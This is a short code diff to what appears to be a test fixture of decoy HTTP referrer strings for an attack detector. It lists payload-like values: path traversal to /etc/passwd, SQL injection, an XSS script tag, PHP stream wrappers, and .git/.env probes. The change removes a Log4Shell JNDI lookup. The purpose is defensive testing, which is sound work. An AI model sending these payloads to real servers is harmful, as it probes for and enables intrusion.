@@ -1,7 +1,7 @@
 """Requests that look like attacks to a search for words, and are none.
 
 What makes a line an attack is what it asks of the server: not where a link was found, and not what a browser
-calls itself.
+calls itself. (Log4Shell and Shellshock do come in these headers, so they are in no decoy.)
 """
 
 from msgspec import Struct
@@ -25,7 +25,6 @@ REFERRERS = (
     "http://search.example.net/?q=..%2f..%2f..%2fetc%2fpasswd",
     "http://search.example.net/?q=union+select+1,2,3+from+users--",
     "http://search.example.net/?q=%3Cscript%3Ealert(1)%3C/script%3E",
-    "http://search.example.net/?q=${jndi:ldap://192.0.2.1/a}",
     "http://forum.example.org/topic?title=php://input+and+php://filter",
     "http://forum.example.org/%63%6dd.exe?%2e%2e%2f",
     "http://wiki.example.org/.git/config?x=/.env",
